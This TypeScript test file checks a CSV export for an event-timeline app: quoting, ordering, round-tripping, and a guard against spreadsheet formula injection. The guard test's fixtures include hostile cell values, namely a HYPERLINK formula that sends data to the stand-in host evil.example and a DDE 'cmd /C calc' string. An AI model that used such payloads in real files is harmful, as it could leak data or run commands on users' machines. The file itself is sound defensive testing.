/// <reference types="node" />
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { categoryLabel } from '../../../../../shared/corpus'
import { compareByDate, describeDate } from '../dates'
import type { AppEvent } from '../events'
import { CSV_COLUMNS, buildCsv, guardFormula } from './csv'
import type { ExportInput } from './input'
import { CONTRADICTING_QUOTE, realExportInput } from './test-fixture'

const input = realExportInput()

function parse(csv: string): string[][] {
  const result = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), {
    newline: '\r\n',
    skipEmptyLines: false,
  })
  expect(result.errors).toEqual([])
  // The CRLF after the last record leaves one empty row behind.
  expect(result.data.at(-1)).toEqual([''])
  return result.data.slice(0, -1)
}

/** A cell as written, with the formula guard's apostrophe taken off again. */
function unguard(cell: string): string {
  return /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell
}

function column(rows: string[][], name: (typeof CSV_COLUMNS)[number]): string[] {
  const i = CSV_COLUMNS.indexOf(name)
  return rows.slice(1).map((r) => r[i] ?? '')
}

describe('buildCsv', () => {
  const csv = buildCsv(input)
  const rows = parse(csv)

  it('starts with a byte order mark, ends records with CRLF and quotes every field', () => {
    expect(csv.startsWith('\uFEFF"EDTF date","Date","Title",')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
    // Every record starts with a quote: no field was left bare.
    const records = csv.slice(1).split(/\r\n(?=")/)
    expect(records.every((r) => r.startsWith('"'))).toBe(true)
    expect(records).toHaveLength(input.events.length + 1)
  })

  it('has a header and one row per event in date order', () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS])
    const sorted = [...input.events].sort(compareByDate)
    expect(column(rows, 'Event ID')).toEqual(sorted.map((e) => e.id))
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true)
  })

  it('round-trips every cell through a CSV parser', () => {
    const byId = new Map(input.events.map((e) => [e.id, e]))
    for (const row of rows.slice(1)) {
      const cells = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, unguard(row[i] ?? '')]))
      const event = byId.get(cells['Event ID'] ?? '') as AppEvent
      expect(cells['EDTF date']).toBe(event.date.edtf ?? '')
      expect(cells['Date']).toBe(describeDate(event.date))
      expect(cells['Title']).toBe(event.title)
      expect(cells['Category']).toBe(categoryLabel(event.category))
      expect(cells['People']).toBe(event.people.join('; '))
      expect(cells['Organisations']).toBe(event.organisations.join('; '))
      expect(cells['Tags']).toBe(event.tags.join('; '))
      expect(cells['Summary']).toBe(event.summary)
      expect(cells['Date note']).toBe(event.date.note)
      const quotes = (cells['Quotes'] ?? '').split('\n')
      expect(quotes).toHaveLength(event.evidence.length === 0 ? 1 : event.evidence.length)
      event.evidence.forEach((e, i) => {
        const title = input.articles.find((a) => a.id === e.articleId)!.title
        expect(quotes[i]).toBe(`[${e.stance}] “${e.quote.exact}” — ${title}`)
      })
      const sources = new Set(event.evidence.map((e) => e.articleId)).size
      expect((cells['Sources'] ?? '').split('\n').filter(Boolean)).toHaveLength(sources)
    }
  })

  it('marks contradicting quotes and keeps tags, user events and notes', () => {
    const [tip] = rows.filter((r) => r.at(-1) === 'tip-tier-3-downgrade-2022')
    const i = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name)
    expect(tip?.[i('Quotes')]).toContain(`[contradicts] “${CONTRADICTING_QUOTE}”`)
    expect(tip?.[i('Tags')]).toBe('disputed; follow up')
    const [day] = rows.filter((r) => r.at(-1) === 'anti-trafficking-day-2007')
    expect(day?.[i('Notes')]).toBe('Ask the ministry for the 2007 sub-decree.\nSecond line.')
    const [mine] = rows.filter((r) => r.at(-1) === 'user-event-1')
    expect(mine?.[i('Added by')]).toBe('you')
    expect(mine?.[i('Date')]).toBe('circa September 2022')
    expect(mine?.[i('Notes')]).toBe("'=1+1 looks like a formula")
  })

  it('guards every cell that a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(guardFormula(`${start}HYPERLINK("http://x")`)).toBe(`'${start}HYPERLINK("http://x")`)
    }
    expect(guardFormula('Plain text')).toBe('Plain text')
    expect(guardFormula('1+1')).toBe('1+1')

    const event = input.events.find((e) => e.id === 'user-event-1')!
    const hostile: ExportInput = {
      ...input,
      events: [
        {
          ...event,
          title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          summary: '@SUM(1+1)',
          people: ['+cmd|" /C calc"!A0'],
          tags: ['-2+3'],
        },
      ],
      notes: [],
    }
    const [, row] = parse(buildCsv(hostile))
    const i = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name)
    expect(row?.[i('Title')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`)
    expect(row?.[i('Summary')]).toBe("'@SUM(1+1)")
    expect(row?.[i('People')]).toBe(`'+cmd|" /C calc"!A0`)
    expect(row?.[i('Tags')]).toBe("'-2+3")
    expect(row?.map(unguard)[i('Title')]).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")')
  })

  it('writes only the header for no events', () => {
    expect(buildCsv({ ...input, events: [] })).toBe(
      `\uFEFF${CSV_COLUMNS.map((c) => `"${c}"`).join(',')}\r\n`,
    )
  })
})
